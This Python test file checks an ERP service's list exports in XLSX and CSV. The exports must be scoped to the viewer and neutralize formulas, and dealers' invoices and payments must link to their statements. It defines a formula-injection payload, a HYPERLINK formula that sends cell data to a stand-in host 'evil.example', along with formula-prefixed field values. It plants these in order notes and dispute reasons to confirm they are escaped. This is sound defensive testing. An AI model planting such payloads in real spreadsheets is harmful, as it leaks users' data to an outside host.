"""Exports of every list a user works with (XLSX and CSV), scoped to the viewer and
formula-safe, and the dealer's invoices and payments linked to its statements."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from qudao.common.v1 import money_pb2
from qudao.order.v1 import order_pb2

from shared.safecells import is_formula
from tests.order.support import Erp, add_staff, shipment

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EXPORTS = ["/api/v1/orders/export", "/api/v1/shipments/export",
           "/api/v1/channel-inventory/export", "/api/v1/registrations/export",
           "/api/v1/customers/export", "/api/v1/accruals/export"]


def xlsx_rows(content: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # A cell stored as a formula, or text a spreadsheet would evaluate.
                assert cell.data_type != "f" and not is_formula(cell.value), (
                    sheet.title, cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    return rows


def csv_rows(content: bytes) -> list[list]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not is_formula(value), value
    return rows


async def approved_order(suite, world, staff, dealer, note: str, product_code: str = "A-001",
                         quantity: int = 10) -> dict:
    async with suite.client(dealer.token) as client:
        response = await client.post("/api/v1/orders", json={
            "lines": [{"product_code": product_code, "quantity": quantity}], "note": note})
        assert response.status_code == 201, response.text
        order = response.json()
    for token, stage in ((staff.manager_token, "channel_manager"),
                         (staff.finance_token, "finance")):
        async with suite.client(token) as client:
            response = await client.post(f"/api/v1/orders/{order['id']}/approve",
                                         json={"stage": stage})
            assert response.status_code == 200, response.text
    return response.json()


async def test_every_list_exports_only_what_the_viewer_sees_and_no_formula(suite, world):
    staff = await add_staff(suite, world)
    own, other = world.dealers
    erp = Erp(suite, staff.erp_token)
    try:
        for dealer, note in ((own, HOSTILE), (other, "other dealer's order")):
            order = await approved_order(suite, world, staff, dealer, note)
            reply = await erp.ship([shipment(f"S-{dealer.id[:8]}", dealer.id, [{
                "order_id": order["id"], "order_line_no": 1, "product_code": "A-001",
                "quantity": 4, "batch": "-LOT1"}])])
            assert reply.summary.accepted == 1, reply
    finally:
        await erp.close()
    async with suite.client(own.token) as client:
        response = await client.post("/api/v1/registrations", json={
            "product_line": "A系列", "department": "+心内科",
            "customer": {"name": "上海市瑞金医院", "address": "上海市黄浦区瑞金二路197号"}})
        assert response.status_code == 201, response.text

    async with suite.client(own.token) as client:
        for path in EXPORTS:
            xlsx = await client.get(path)
            assert xlsx.status_code == 200, (path, xlsx.text[:300])
            assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
            assert "attachment" in xlsx.headers["content-disposition"]
            text = csv_rows((await client.get(path, params={"format": "csv"})).content)
            rows = xlsx_rows(xlsx.content)
            # The same rows either way; nothing of the other dealer.
            assert len(rows) == len(text), path
            assert other.id not in repr(rows), path
        orders = xlsx_rows((await client.get("/api/v1/orders/export")).content)
        header, line = orders[0], orders[1]
        assert line[header.index("备注 Note")] == "'" + HOSTILE
        assert line[header.index("订购 Ordered")] == 10 and line[header.index("行 Line")] == 1
        shipments = csv_rows((await client.get("/api/v1/shipments/export",
                                               params={"format": "csv"})).content)
        assert shipments[1][shipments[0].index("批号 Batch")] == "'-LOT1"
        registrations = xlsx_rows((await client.get("/api/v1/registrations/export")).content)
        assert registrations[1][registrations[0].index("科室 Department")] == "'+心内科"
        inventory = xlsx_rows((await client.get("/api/v1/channel-inventory/export")).content)
        assert [row[inventory[0].index("库存 On hand")] for row in inventory[1:]] == [4]
        # HQ sees both dealers' orders.
    async with suite.client(world.admin_token) as admin:
        orders = csv_rows((await admin.get("/api/v1/orders/export",
                                           params={"format": "csv"})).content)
        assert {row[1] for row in orders[1:]} == {own.id, other.id}
        bad = await admin.get("/api/v1/orders/export", params={"format": "pdf"})
        assert bad.status_code == 422 and bad.headers["content-type"].startswith(
            "application/problem+json")


async def test_dealer_reads_its_invoices_and_payments_linked_to_its_statement(suite, world):
    staff = await add_staff(suite, world)
    own, other = world.dealers
    order = await approved_order(suite, world, staff, own, "")
    erp = Erp(suite, staff.erp_token)
    try:
        assert (await erp.ship([shipment("S-L1", own.id, [{
            "order_id": order["id"], "order_line_no": 1, "product_code": "A-001",
            "quantity": 10}])])).summary.accepted == 1
        for number, day in ((1, "2026-11-03"), (2, "2026-11-05")):
            reply = await erp.invoice([order_pb2.Invoice(
                invoice_id=f"INV-{number}", dealer_id=own.id, invoice_no=f"0440{number}",
                issued_on=day, amount=money_pb2.Money(amount_minor=62_500 * number,
                                                      currency="CNY"),
                tax=money_pb2.Money(amount_minor=7_190, currency="CNY"))])
            assert reply.summary.accepted == 1, reply
        reply = await erp.pay([order_pb2.Payment(
            payment_id="PAY-1", dealer_id=own.id, received_on="2026-11-20",
            amount=money_pb2.Money(amount_minor=62_500, currency="CNY"),
            method="bank_transfer", reference="HX-1",
            allocations=[order_pb2.PaymentAllocation(
                invoice_id="INV-1", amount=money_pb2.Money(amount_minor=62_500,
                                                           currency="CNY"))])])
        assert reply.summary.accepted == 1, reply
    finally:
        await erp.close()
    async with suite.client(staff.finance_token) as finance:
        response = await finance.post("/api/v1/statements", json={
            "dealer_id": own.id, "period_start": "2026-11-04", "period_end": "2026-11-30"})
        assert response.status_code == 201, response.text
        statement_id = response.json()["id"]
        assert (await finance.get("/api/v1/invoices")).json()["page"]["total_size"] == 2

    async with suite.client(own.token) as client:
        invoices = (await client.get("/api/v1/invoices")).json()
        assert [i["invoice_id"] for i in invoices["invoices"]] == ["INV-2", "INV-1"]
        assert invoices["page"]["total_size"] == 2
        assert invoices["invoices"][0]["amount"]["amount_minor"] == 125_000
        # The statement starts on the 4th: it lists the second invoice and the payment.
        linked = (await client.get("/api/v1/invoices",
                                   params={"statement_id": statement_id})).json()
        assert [i["invoice_id"] for i in linked["invoices"]] == ["INV-2"]
        payments = (await client.get("/api/v1/payments",
                                     params={"statement_id": statement_id})).json()
        assert [p["payment_id"] for p in payments["payments"]] == ["PAY-1"]
        assert payments["payments"][0]["allocations"][0]["invoice_id"] == "INV-1"
        paged = (await client.get("/api/v1/invoices", params={"page_size": 1})).json()
        assert len(paged["invoices"]) == 1 and paged["page"]["next_page_token"]
        assert paged["page"]["total_size"] == 2
        dated = (await client.get("/api/v1/invoices", params={
            "issued_from": "2026-11-04", "issued_to": "2026-11-30"})).json()
        assert [i["invoice_id"] for i in dated["invoices"]] == ["INV-2"]
        # The statement workbook HQ opens: a dispute reason typed by the dealer stays text.
        statement = (await client.get(f"/api/v1/statements/{statement_id}")).json()
        response = await client.post(
            f"/api/v1/statements/{statement_id}/lines/{statement['lines'][0]['line_no']}"
            "/dispute", json={"reason": HOSTILE})
        assert response.status_code == 200, response.text
        workbook = xlsx_rows((await client.get(
            f"/api/v1/statements/{statement_id}/export")).content)
        disputed = [v for row in workbook for v in row if isinstance(v, str) and HOSTILE in v]
        assert disputed == ["'" + HOSTILE]
        bad = await client.get("/api/v1/payments", params={"received_from": "11/2026"})
        assert bad.status_code == 400
        assert bad.json()["errors"][0]["field"] == "received_from"
    async with suite.client(other.token) as client:
        for path in ("/api/v1/invoices", "/api/v1/payments"):
            for params in ({}, {"dealer_id": own.id}, {"statement_id": statement_id}):
                body = (await client.get(path, params=params)).json()
                assert body["page"]["total_size"] == 0, (path, params, body)


